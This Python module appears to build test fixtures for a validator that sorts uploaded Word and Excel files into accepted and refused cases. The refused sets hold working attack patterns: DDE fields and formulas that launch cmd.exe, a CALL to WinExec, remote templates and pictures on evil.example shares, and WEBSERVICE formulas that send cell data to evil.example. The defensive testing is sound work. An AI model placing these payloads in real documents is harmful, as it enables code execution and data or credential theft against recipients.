"""What Word and Excel files may be about: each case is a small document with one thing in it."""

import io
import struct
import zipfile

from packages import DOCX_TYPE, EVIL, archive, docx, relationship, relationships, xlsx

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
UI = 'xmlns="http://schemas.microsoft.com/office/2009/07/customui"'
TYPES = "application/vnd.openxmlformats-officedocument."
LOCAL = "file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"
SHARE = "file:///\\\\evil.example\\share\\a.dotm"


def override(part, kind):
    return f'<Override PartName="/{part}" ContentType="{kind if "/" in kind else TYPES + kind}"/>'


def default(extension, kind):
    return f'<Default Extension="{extension}" ContentType="{kind if "/" in kind else TYPES + kind}"/>'


def text(content):
    return docx(content=f"<w:document {W}><w:body><w:p>{content}</w:p></w:body></w:document>")


def mark(kind):
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def run(code):
    return f"<w:r><w:instrText>{code}</w:instrText></w:r>"


def field(*codes):
    return text(mark("begin") + "".join(map(run, codes)) + mark("separate") + "<w:r><w:t>DDEAUTO</w:t></w:r>" + mark("end"))


def part(name, kind, content):
    """A document with one part more."""
    make = xlsx if name.startswith("xl/") else docx
    return make(types=override(name, kind), extra={name: content})


def sheet(content, types="", extra=()):
    name = "xl/worksheets/sheet1.xml"
    return xlsx(types=override(name, "spreadsheetml.worksheet+xml") + types, extra={name: f"<worksheet {S}>{content}</worksheet>"} | dict(extra))


def formula(code):
    return sheet(f'<sheetData><row><c r="A1"><f>{code}</f><v>1</v></c></row></sheetData>')


def chart(name, book):
    """With a chart, and the workbook that its figures are kept in."""
    links = relationships(relationship("package", f"../embeddings/{name}", ""))
    types = default("xlsx", "spreadsheetml.sheet") + override("word/charts/chart1.xml", "drawingml.chart+xml")
    return docx(
        types=types,
        extra={"word/charts/chart1.xml": "<chart/>", "word/charts/_rels/chart1.xml.rels": links, f"word/embeddings/{name}": book},
    )


def connection(attributes):
    return part("xl/connections.xml", "spreadsheetml.connections+xml", f'<connections {S}><connection id="1" {attributes}/></connections>')


def pivot(source):
    content = f'<pivotCacheDefinition {S} refreshOnLoad="1"><cacheSource type="{source}"/></pivotCacheDefinition>'
    return part("xl/pivotCache/pivotCacheDefinition1.xml", "spreadsheetml.pivotCacheDefinition+xml", content)


def link_part(content):
    return part("xl/externalLinks/externalLink1.xml", "spreadsheetml.externalLink+xml", f"<externalLink {S}>{content}</externalLink>")


def outside(target):
    """A workbook's link to another one's values."""
    name = "xl/externalLinks/externalLink1.xml"
    links = relationships(relationship("externalLinkPath", target))
    entries = {name: f"<externalLink {S}><externalBook/></externalLink>", "xl/externalLinks/_rels/externalLink1.xml.rels": links}
    return xlsx(types=override(name, "spreadsheetml.externalLink+xml"), extra=entries)


def compound(*names):
    """A compound file's header, and a directory of these entries."""
    entries = [name.encode("utf-16le").ljust(64, b"\0") + struct.pack("<H", 2 * len(name) + 2) for name in ("Root Entry", *names)]
    whole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1".ljust(512, b"\0") + b"".join(entry.ljust(128, b"\0") for entry in entries)
    return whole.ljust(4096, b"\0")


def windows(whole):
    """As some programs of Windows write the names of entries."""
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(whole)) as read, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as written:
        for entry in read.infolist():
            information = zipfile.ZipInfo("x")
            information.filename = entry.filename.replace("/", "\\")
            written.writestr(information, read.read(entry))
    return target.getvalue()


TAKEN = {
    "chart.docx": chart("Microsoft_Excel_Sheet1.xlsx", xlsx()),
    "chart_of_formulas.docx": chart("Workbook1.xlsx", formula("SUM(B1:B9)")),
    "local_template.docx": docx(links=relationship("attachedTemplate", LOCAL)),
    "normal_template.docx": docx(links=relationship("attachedTemplate", "Normal.dotm")),
    "local_picture.docx": docx(links=relationship("image", "file:///D:/%E7%85%A7%E7%89%87/a.jpg")),
    "no_picture.docx": docx(links=relationship("image", "NULL")),
    "defaults.docx": docx(types=default("bin", "oleObject") + default("docm", "application/vnd.ms-word.document.macroEnabled.main+xml")),
    "overrides.docx": docx(types=override("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")),
    "printer.xlsx": sheet("", default("bin", "spreadsheetml.printerSettings"), {"xl/printerSettings/printerSettings1.bin": b"\1\2\3"}),
    "outside.xlsx": outside("file:///D:\\2020\\a.xlsx"),
    "outside_web.xlsx": outside("https://kexie.example/a.xlsx"),
    "windows.docx": windows(docx()),
    "windows_chart.docx": windows(chart("a.xlsx", xlsx())),
    "page_number.docx": field(" PAGE   \\* MERGEFORMAT "),
    "link_field.docx": field(' HYPERLINK "https://zh.wikipedia.org/wiki/DDE" '),
    "picture_field.docx": field(' INCLUDEPICTURE "C:\\\\Users\\\\a\\\\1.png" \\* MERGEFORMATINET '),
    "picture_field_file.docx": field(' INCLUDEPICTURE "file:///C:\\\\Users\\\\a.png" \\d '),
    "word_of_field.docx": text("<w:r><w:t>DDEAUTO http://evil.example/ =WEBSERVICE(1)</w:t></w:r>"),
    "citation.docx": field(" ADDIN ZOTERO_ITEM ", "x" * 200_000),
    "fraction.docx": text('<m:f xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:t>|x|</m:t></m:f>'),
    "drawing.docx": part("word/media/image1.svg", "image/svg+xml", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd"><svg/>'),
    "formulas.xlsx": formula('IF(A2&gt;0,"a|b",\'单位|x\'!A1)&amp;HYPERLINK("https://kexie.example")'),
    "columns.xlsx": formula("SUM(Table1[单价|元])+CALLED(1)"),
    "connection.xlsx": connection(""),
    "pivot.xlsx": pivot("worksheet"),
    "webservice_as_text.xlsx": sheet('<c t="inlineStr"><is><t>=WEBSERVICE("http://evil.example")</t></is></c>'),
    "ribbon.docx": part("customUI/customUI14.xml", "application/xml", f"<customUI {UI}/>"),
}

ACTIVE = {
    "dde.docx": field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
    "dde_in_runs.docx": field(" DD", "EA", "UTO cmd "),
    "dde_quoted.docx": field('"DDE"  "cmd"'),
    "dde_far.docx": field(" " * 100_000, "dde cmd"),
    "dde_nested.docx": text(mark("begin") + run("DDE ") + mark("begin") + run("QUOTE 1") + mark("end") + mark("end")),
    "dde_without_end.docx": text(mark("begin") + run("DDEAUTO cmd")),
    "dde_simple.docx": text('<w:fldSimple w:instr="  ddeauto cmd"/>'),
    "dde_simple_far.docx": text(f'<w:fldSimple w:instr="{" " * 5000}DDEAUTO cmd"/>'),
    "dde_deleted.docx": text("<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>" + mark("end")),
    "dde_header.docx": part("word/header1.xml", "wordprocessingml.header+xml", f'<w:hdr {W}><w:fldSimple w:instr="DDE x"/></w:hdr>'),
    "dde_entities.docx": text('<w:fldSimple w:instr="&#x44;&#68;E cmd"/>'),
    "dde.xlsx": formula("cmd|'/C calc'!A0"),
    "dde_plus.xlsx": formula("1+cmd|&#39; /C calc&#39;!A0"),
    "dde_function.xlsx": formula('DDE("soffice";"a.ods";"A1")'),
    "dde_name.xlsx": xlsx(
        content=f"<workbook {S}><definedNames><definedName name=\"a\">cmd|'/C calc'!A0</definedName></definedNames></workbook>"
    ),
    "dde_validation.xlsx": sheet("<dataValidation><formula1>cmd|'/C calc'!A0</formula1></dataValidation>"),
    "dde_link.xlsx": link_part("<ddeLink/>"),
    "dde_behind_chart.docx": chart("a.xlsx", formula("cmd|'/C calc'!A0")),
    "rtd.xlsx": formula('RTD("x.y",,"a")'),
    "call.xlsx": formula('CALL("Kernel32","WinExec","JCJ","calc",0)'),
    "control.docx": docx(extra={"word/activeX/activeX1.xml": b"<ocx/>"}),
    "control_type.docx": part("word/controls/a.xml", "application/vnd.ms-office.activeX+xml", "<ocx/>"),
    "ribbon_loaded.docx": part("customUI/customUI.xml", "application/xml", f'<customUI {UI} onLoad="x"/>'),
    "add_in.docx": part("word/webextensions/webextension1.xml", "application/vnd.ms-office.webextension+xml", "<we/>"),
}

EXTERNAL = {
    "template.docx": docx(links=relationship("attachedTemplate", EVIL)),
    "share_template.docx": docx(links=relationship("attachedTemplate", SHARE)),
    "share_slashes.docx": docx(links=relationship("attachedTemplate", "//evil.example/share/a.dotm")),
    "picture.docx": docx(links=relationship("image", EVIL)),
    "picture_share.docx": docx(links=relationship("image", "\\\\evil.example\\a.png")),
    "picture_of_host.docx": docx(links=relationship("image", "file://evil.example/a.png")),
    "picture_one_slash.docx": docx(links=relationship("image", "http:/evil.example/a.png")),
    "template_four_slashes.docx": docx(links=relationship("attachedTemplate", "file:////evil.example/a.dotm")),
    "frame.docx": docx(links=relationship("frame", EVIL)),
    "linked_object.docx": docx(links=relationship("oleObject", EVIL)),
    "mhtml.docx": docx(links=relationship("oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x")),
    "picture_field.docx": field(f' INCLUDEPICTURE "{EVIL}" \\d '),
    "picture_field_in_runs.docx": field(" INCLUDE", "PICTURE ", '"ht', "tps:", '//evil.example/"'),
    "picture_field_share.docx": field(' INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png" '),
    "picture_field_slashes.docx": field(' INCLUDEPICTURE "https:\\\\\\\\evil.example" '),
    "picture_field_far.docx": field(" INCLUDEPICTURE \\d " + "x" * 130_000, ' "https://evil.example/" '),
    "text_field.docx": field(f" INCLUDETEXT {EVIL} "),
    "link_field.docx": field(' LINK Excel.Sheet.12 "C:\\\\a.xlsx" '),
    "database_field.docx": field(' DATABASE \\c "x" '),
    "vml.docx": text(f'<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="{EVIL}"/>'),
    "webservice.xlsx": formula('_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)'),
    "webservice_spaced.xlsx": formula('1+ webservice ("http://evil.example/")'),
    "image.xlsx": formula('_xlfn.IMAGE("http://evil.example/")'),
    "refreshing.xlsx": connection('refreshOnLoad="1"'),
    "refreshing_at_times.xlsx": connection('interval="5"'),
    "query.xlsx": part("xl/queryTables/queryTable1.xml", "spreadsheetml.queryTable+xml", f'<queryTable {S} refreshOnLoad="true"/>'),
    "pivot.xlsx": pivot("external"),
    "linked.xlsx": link_part("<oleLink/>"),
}

EMBEDDED = {
    "object.docx": docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "object_type.docx": part("word/a.bin", "oleObject", b"\0"),
    "object_element.docx": text('<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Excel.Sheet.12"/>'),
    "object.xlsx": sheet('<oleObjects><oleObject progId="x" shapeId="1"/></oleObjects>'),
    "document_in_document.docx": chart("Microsoft_Word_Document.docx", docx()),
    "document_as_workbook.docx": chart("a.xlsx", docx()),
    "archive_as_workbook.docx": chart("a.xlsx", archive({"a.exe": b"MZ"})),
    "workbook_in_workbook.docx": chart("a.xlsx", xlsx(extra={"xl/embeddings/b.xlsx": xlsx()})),
    "picture_of_archive.docx": docx(types=default("png", "image/png"), extra={"word/media/a.png": archive({"a.exe": b"MZ"})}),
    "program.docx": docx(extra={"word/media/a.png": b"MZ\x90\0"}),
    "page.docx": text('<w:altChunk r:id="r1" xmlns:r="x"/>'),
    "page_link.docx": docx(links=relationship("aFChunk", "a.html", ""), extra={"word/a.html": "<html/>"}),
}

MACROS = {
    "part.docx": docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "windows_part.docx": windows(docx(extra={"word/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"})),
    "type.docx": docx(DOCX_TYPE.replace("openxmlformats-officedocument.wordprocessingml.document", "ms-word.document.macroEnabled")),
    "typed_part.docx": part("word/a.bin", "application/vnd.ms-office.vbaProject", b"\0"),
    "default_type.docx": docx(types=default("bin", "application/vnd.ms-office.vbaProject"), extra={"word/a.bin": b"\0"}),
    "link.docx": docx(links=relationship("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin", "")),
    "sheet.xlsx": part("xl/a.xml", "application/vnd.ms-excel.macrosheet+xml", f"<xm {S}/>"),
    "behind_chart.docx": chart("a.xlsx", xlsx(extra={"xl/vbaProject.bin": b"\0"})),
}

ENCRYPTED = {"locked.docx": compound("EncryptionInfo", "EncryptedPackage"), "locked.xlsx": compound("\6DataSpaces", "EncryptedPackage")}

OLD = {
    "old.doc": compound("1Table", "WordDocument"),
    "old.xls": compound("Workbook"),
    "older.xls": compound("Book"),
    "renamed.docx": compound("WordDocument"),
}

UNSUPPORTED = {
    "mail.msg": compound("__properties_version1.0"),
    "template.dotx": docx(TYPES + "wordprocessingml.template.main+xml"),
}

DAMAGED = {
    "two_of_one_name.docx": docx(extra={"WORD/document.xml": "<x/>"}),
    "two_after_windows.docx": docx(extra={"word\\Document.xml": "<x/>"}),
    "broken_part.docx": text("<w:r>"),
    "chart_of_half_a_workbook.docx": chart("a.xlsx", xlsx()[:300]),
}


def files():
    cases = {
        "taken": TAKEN,
        "refused/active_content": ACTIVE,
        "refused/external_reference": EXTERNAL,
        "refused/embedded_file": EMBEDDED,
        "refused/macros": MACROS,
        "refused/encrypted_file": ENCRYPTED,
        "refused/old_office_file": OLD,
        "refused/unsupported_file_type": UNSUPPORTED,
        "refused/damaged_file": DAMAGED,
    }
    return {f"{folder}/{name}": content for folder, named in cases.items() for name, content in named.items()}
